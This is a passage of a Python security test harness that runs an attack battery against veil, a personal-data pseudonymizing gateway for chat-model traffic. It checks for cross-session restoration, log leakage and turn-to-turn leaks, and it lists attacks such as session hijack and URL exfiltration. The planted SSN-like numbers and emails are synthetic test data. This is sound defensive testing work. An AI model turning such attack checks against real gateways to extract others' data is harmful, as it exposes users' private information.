                    messages = [*history, {"role": "user", "content": text}]
                    n = len(gw.bodies)
                    answer = await gw.answer(who, {"model": "echo", "messages": messages,
                                                   "stream": stream}, **headers)
                    leaked |= turn > 0 and value in gw.sent_since(n)
                    history = [*messages, {"role": "assistant", "content": answer}]
                r.add(f"{scope}/value {k}/stream={stream}", leaked)


def _error(resp: Any) -> dict[str, Any]:
    try:
        err = resp.json().get("error")
    except (ValueError, AttributeError):
        return {}
    return err if isinstance(err, dict) else {}


def _stream_error_code(text: str) -> str | None:
    from veil.wire.sse import parse_sse

    try:
        events, _ = parse_sse(text)
    except ValueError:
        return None
    for e in events:
        if isinstance(e.get("error"), dict):
            code = e["error"].get("code")
            return code if isinstance(code, str) else None
    return None


def _dead_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])  # closed again on return: nothing listens there


def attack_library_scoping(b: Battery, trials: int = 40, seed: int = 7) -> None:
    r = b.result("restore_scoping", "library level: an answer to principal B (other session, "
                 "other tenant, or another request of the same session) restores A's originals")
    from veil.config import Policy

    core = b.core_factory()
    for tenant in ("default", "other"):  # pattern recognizers suffice: this is about the vault
        core.set_policy(tenant, Policy(ner=False))
    rng = random.Random(seed)  # nosec B311 # seeded generator for reproducible data, not a secret
    pool = [f"user{i}.scope@example.com" for i in range(12)] + [
        "536-22-8726", "412-67-3490", "4111 1111 1111 1111"]
    for t in range(trials):
        kind = ("sessions", "tenants", "scopes")[t % 3]
        a_vals, b_vals = rng.sample(pool, 3), rng.sample(pool, 2)
        sa, sb = f"s{t}a", (f"s{t}a" if kind != "sessions" else f"s{t}b")
        ta, tb = "default", ("other" if kind == "tenants" else "default")
        ra = core.protect(" and ".join(a_vals), session=sa, tenant=ta)
        rb = core.protect(" and ".join(b_vals), session=sb, tenant=tb)
        answer = " ".join(e.replacement for e in (*ra.entities, *rb.entities))
        scope = frozenset(e.replacement for e in rb.entities)
        restored = core.restore(answer, session=sb, tenant=tb, scope=scope)
        r.add(kind, any(v in restored for v in a_vals if v not in b_vals))


async def attack_log_privacy(b: Battery, records: list[str]) -> None:
    r = b.result("log_privacy", "a planted value appears in the gateway's log")
    text = "\n".join(records)
    for value in sorted(b.planted):
        r.add(f"value {sorted(b.planted).index(value)}", value in text)


# --- runner --------------------------------------------------------------------------------------

ATTACKS: list[tuple[str, Callable[[Battery], Any]]] = [
    ("session_hijack", attack_session_hijack),
    ("typed_lookalikes", attack_typed_lookalikes),
    ("request_fields", attack_fields),
    ("closed_by_default", attack_closed_by_default),
    ("homoglyphs", attack_homoglyphs),
    ("limits", attack_limits),
    ("placeholder_syntax", attack_restoration_syntax),
    ("url_exfiltration", attack_url_exfiltration),
    ("upstream_fidelity", attack_upstream_fidelity),
    ("upstream_cookies", attack_upstream_cookies),
    ("resent_history", attack_resent_history),
    ("restore_scoping", attack_library_scoping),
]


class _Capture(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.records: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        try:
            self.records.append(self.format(record))
        except Exception:  # noqa: BLE001 - a record that cannot format is kept as its template
            self.records.append(str(record.msg))


@contextmanager
def _captured_logs() -> Iterator[_Capture]:
    cap = _Capture()
    cap.setFormatter(logging.Formatter("%(levelname)s %(name)s: %(message)s"))
    root = logging.getLogger()
    old = root.level
    root.addHandler(cap)
    root.setLevel(logging.INFO)
    try:
        yield cap
    finally:
        root.removeHandler(cap)
        root.setLevel(old)


def fields_walked() -> dict[str, list[dict[str, str]]]:
    """Per endpoint, every request field the gateway's walker declares and how it treats it
    (masked, pseudonymized, allow-listed token...), from ``veil.gateway.fields``."""
    from veil.gateway import fields as walker

    return {
        name: [{"path": e.path, "treatment": e.treatment} for e in walker.walked_fields(name)]
        for name in sorted(walker.ENDPOINTS)
    }


def run_attacks(
    *,
    home: Path,
    only: list[str] | None = None,
    progress: Callable[[str], None] | None = None,
) -> dict[str, Any]:
    """Run the battery against in-process gateways whose vault lives under ``home``."""
    from veil import Veil
    from veil.config import Settings

    master = base64.b64encode(os.urandom(32)).decode()
    counter = iter(range(1_000_000))

    def core_factory() -> Any:
        return Veil(Settings(home=home / f"core{next(counter)}", master_key=master,
                             vault_backend="sqlite"))

    selected = [(n, fn) for n, fn in ATTACKS if not only or n in only]
    timings: dict[str, float] = {}

    async def main(cap: _Capture) -> list[AttackResult]:
        core = core_factory()
        battery = Battery(Harness(core, tenants=True), Harness(core_factory(), tenants=False),
                          core_factory)
        try:
            for name, fn in selected:
                t0 = time.perf_counter()
                try:
                    out = fn(battery)
                    if asyncio.iscoroutine(out):
                        await out
                except Exception as e:  # noqa: BLE001 - one broken attack must not hide the rest
                    res = next((r for r in battery.results if r.name == name), None)
                    if res is None:
                        res = battery.result(name, "")
                    res.error = type(e).__name__  # class only: the message could quote a value
                timings[name] = round(time.perf_counter() - t0, 2)
                if progress is not None:
                    progress(name)
            await attack_log_privacy(battery, cap.records)
        finally:
            await battery.gw.aclose()
            await battery.open_gw.aclose()
        return battery.results

    with _captured_logs() as cap:
        results = asyncio.run(main(cap))
    return {
        "attacks": [r.as_dict() for r in results],
        "fields_walked": fields_walked(),
        "fields_planted": [p.field for p in field_plants()] + ["image_url"],
        "typed_tokens": len(typed_tokens_from_suite()),
        "timings_s": timings,
    }


def write_attack_report(result: dict[str, Any], out_dir: Path) -> list[Path]:
    """``attacks.json`` and ``attacks.md`` under ``out_dir``."""
    out_dir.mkdir(parents=True, exist_ok=True)
    js = out_dir / "attacks.json"
    js.write_text(json.dumps(result, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")
    lines = [
        "# Gateway attack battery",
        "",
        "Success rate = share of trials in which the attacker got what they wanted "
        "(0 is the goal). Produced by `veil eval gateway --attacks`.",
        "",
        "| attack | trials | successes | success rate | succeeded on |",
        "|---|---:|---:|---:|---|",
    ]
    for a in result["attacks"]:
        rate = "error: " + a["error"] if a["error"] else f"{a['success_rate']:.2f}"
        shown = ", ".join(f"`{t}`" for t in a["succeeded"][:8])
        if len(a["succeeded"]) > 8:
            shown += f" (+{len(a['succeeded']) - 8})"
        lines.append(f"| {a['name']} | {a['trials']} | {a['successes']} | {rate} | {shown} |")
    lines += ["", "Fields planted (one value each): "
              + ", ".join(f"`{f}`" for f in result["fields_planted"]), ""]
    for endpoint, entries in result["fields_walked"].items():
        lines += [f"## Request fields walked: {endpoint}", "", "| field | treatment |", "|---|---|"]
        lines += [f"| `{e['path'] or '(body)'}` | {e['treatment']} |" for e in entries]
        lines.append("")
    md = out_dir / "attacks.md"
    md.write_text("\n".join(lines), encoding="utf-8")
    return [js, md]


def attack_table(result: dict[str, Any]) -> list[tuple[str, int, int, str]]:
    return [
        (a["name"], a["trials"], a["successes"],
         ("error: " + a["error"]) if a["error"] else f"{a['success_rate']:.2f}")
        for a in result["attacks"]
    ]


__all__ = [
    "ATTACKS",
    "CONFUSABLES",
    "EXFIL_VALUE",
    "HOMOGLYPH_VALUES",
    "IMAGE_REQUEST",
    "LOOKALIKE_VALUES",
    "TOOL_URL_SHAPES",
    "TYPED_TOKENS",
    "URL_SHAPES",
    "URL_SPELLINGS",
    "AttackResult",
    "FieldPlant",
    "attack_table",
    "exfil_text",
    "exfil_transport",
    "field_plants",
    "homoglyph_prompt",
    "lookalike_prompt",
    "raw_syntax",
    "run_attacks",
    "skeleton",
    "typed_tokens_from_suite",
    "write_attack_report",
]
